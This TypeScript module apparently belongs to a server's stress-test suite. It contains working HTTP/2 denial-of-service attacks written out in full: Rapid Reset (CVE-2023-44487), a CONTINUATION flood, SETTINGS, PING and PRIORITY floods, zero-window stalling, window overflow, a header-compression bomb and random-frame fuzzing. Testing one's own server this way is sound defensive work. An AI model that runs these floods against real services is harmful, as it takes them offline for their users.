/**
 * Attacks by HTTP/2 frames as no library sends them.
 *
 * @module
 */
import type { TLSSocket } from 'node:tls';
import { setTimeout as wait } from 'node:timers/promises';
import type { Random } from '../../src/core/clock.ts';
import {
  type Attack,
  below,
  leave,
  LEAVINGS,
  linger,
  many,
  openTls,
  pick,
  randomBytes,
  type Target,
} from './attack.ts';

const [DATA, HEADERS, PRIORITY, RESET, SETTINGS, PUSH, PING, WINDOW, CONTINUATION] = [
  0, 1, 2, 3, 4, 5, 6, 8, 9,
] as const;
const [END_STREAM, END_HEADERS] = [1, 4];
const CANCEL = Buffer.from([0, 0, 0, 8]);
const NO_WINDOW = Buffer.from([0, 4, 0, 0, 0, 0]);
const CONNECTIONS = 6;

function frame(type: number, flags: number, stream: number, payload: Uint8Array): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

function block(fields: readonly (readonly [string, string])[]): Buffer {
  return Buffer.concat(
    fields.flatMap(([name, value]) => [
      Buffer.from([0, name.length]),
      Buffer.from(name),
      Buffer.from([value.length]),
      Buffer.from(value),
    ]),
  );
}

function request(webName: string, path = '/', method = 'GET'): Buffer {
  return block([
    [':method', method],
    [':scheme', 'https'],
    [':path', path],
    [':authority', webName],
  ]);
}

type Flood = (socket: TLSSocket, target: Target, random: Random) => Promise<void> | void;

function attack(
  name: string,
  flood: Flood,
  settings: Uint8Array = Buffer.alloc(0),
  connections = CONNECTIONS,
): Attack {
  return {
    name: `HTTP/2: ${name}`,
    run: (target, random) =>
      many(connections, connections, async () => {
        const options = { ALPNProtocols: ['h2'] };
        const socket = await openTls(target.tlsPort, target.webName, options);
        socket.write('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
        socket.write(frame(SETTINGS, 0, 0, settings));
        await flood(socket, target, random);
        await linger(socket, 200 + below(random, 300));
        await leave(socket, pick(random, LEAVINGS), 100);
      }),
  };
}

/** CVE-2023-44487. */
const rapidReset = attack('rapid reset', async (socket, { webName }) => {
  const headers = request(webName);
  for (let stream = 1; stream < 10_000 && socket.writable; stream += 2) {
    socket.write(
      Buffer.concat([
        frame(HEADERS, END_HEADERS | END_STREAM, stream, headers),
        frame(RESET, 0, stream, CANCEL),
      ]),
    );
    if (stream % 101 === 0) await wait(1);
  }
});

const continuations = attack('CONTINUATION without end', async (socket, { webName }) => {
  socket.write(frame(HEADERS, END_STREAM, 1, request(webName)));
  const more = block([['x-more', 'y'.repeat(100)]]);
  for (let count = 0; count < 5_000 && socket.writable; count += 1) {
    socket.write(frame(CONTINUATION, 0, 1, count % 2 === 0 ? more : Buffer.alloc(0)));
    if (count % 100 === 0) await wait(1);
  }
});

function repeated(name: string, bytes: Buffer, count: number): Attack {
  return attack(name, async (socket) => {
    const some = Buffer.concat(Array.from({ length: 100 }, () => bytes));
    // What is answered is not read, so that the answers pile up at the other side.
    socket.pause();
    for (let sent = 0; sent < count && socket.writable; sent += 100) {
      socket.write(some);
      await wait(1);
    }
  });
}

const settingsFlood = repeated(
  'SETTINGS without end',
  frame(SETTINGS, 0, 0, Buffer.from([0, 3, 0, 0, 0, 100])),
  20_000,
);
const pingFlood = repeated('PING without end', frame(PING, 0, 0, Buffer.alloc(8)), 20_000);
const priorityFlood = repeated('PRIORITY', frame(PRIORITY, 0, 1, Buffer.alloc(5, 1)), 20_000);
const emptyData = attack('DATA without octets', async (socket, { webName }) => {
  socket.write(frame(HEADERS, END_HEADERS, 1, request(webName, '/', 'POST')));
  const some = Buffer.concat(Array.from({ length: 100 }, () => frame(DATA, 0, 1, Buffer.alloc(0))));
  for (let sent = 0; sent < 200 && socket.writable; sent += 1) {
    socket.write(some);
    await wait(1);
  }
});

const noWindow = attack(
  'window 0',
  async (socket, { webName }) => {
    for (let stream = 1; stream < 400; stream += 2) {
      socket.write(frame(HEADERS, END_HEADERS | END_STREAM, stream, request(webName, '/big')));
    }
    socket.resume();
    await wait(2_000);
  },
  NO_WINDOW,
  // Each holds a hundred connections to the upstream until \`stall\`; when all of those are held, what
  // others ask for is answered with 503.
  2,
);

const windowOverflow = attack('windows beyond 2^31', (socket, { webName }) => {
  socket.write(frame(HEADERS, END_HEADERS | END_STREAM, 1, request(webName, '/big')));
  const most = Buffer.from([0x7f, 0xff, 0xff, 0xff]);
  for (const stream of [0, 1, 0, 1]) socket.write(frame(WINDOW, 0, stream, most));
});

/** Each octet of the block stands for a long field that was sent once. */
const bomb = attack('fields from the dynamic table, many times', (socket, { webName }) => {
  const large = Buffer.concat([
    Buffer.from([0x40, 1]),
    Buffer.from('x'),
    Buffer.from([0x7f, 0xe1, 0x1d]),
    Buffer.alloc(3_936, 'y'),
  ]);
  socket.write(
    frame(HEADERS, END_HEADERS | END_STREAM, 1, Buffer.concat([request(webName), large])),
  );
  const again = Buffer.concat([request(webName), Buffer.alloc(10_000, 0xbe)]);
  for (let stream = 3; stream < 60; stream += 2) {
    socket.write(frame(HEADERS, END_HEADERS | END_STREAM, stream, again));
  }
});

const anyFrames = attack('frames by chance', async (socket, { webName }, random) => {
  for (let count = 0; count < 60 && socket.writable; count += 1) {
    const type = pick(random, [
      DATA,
      HEADERS,
      PRIORITY,
      RESET,
      SETTINGS,
      PUSH,
      PING,
      7,
      WINDOW,
      77,
    ]);
    const payload = random() < 0.3 ? request(webName) : randomBytes(random, below(random, 40));
    socket.write(frame(type, below(random, 256), below(random, 20), payload));
    await wait(1);
  }
});

const cutPreface = attack('another preface', (socket, _target, random) => {
  socket.write(randomBytes(random, 100));
});

export const HTTP2_ATTACKS: readonly Attack[] = [
  rapidReset,
  continuations,
  settingsFlood,
  pingFlood,
  priorityFlood,
  emptyData,
  noWindow,
  windowOverflow,
  bomb,
  anyFrames,
  cutPreface,
];
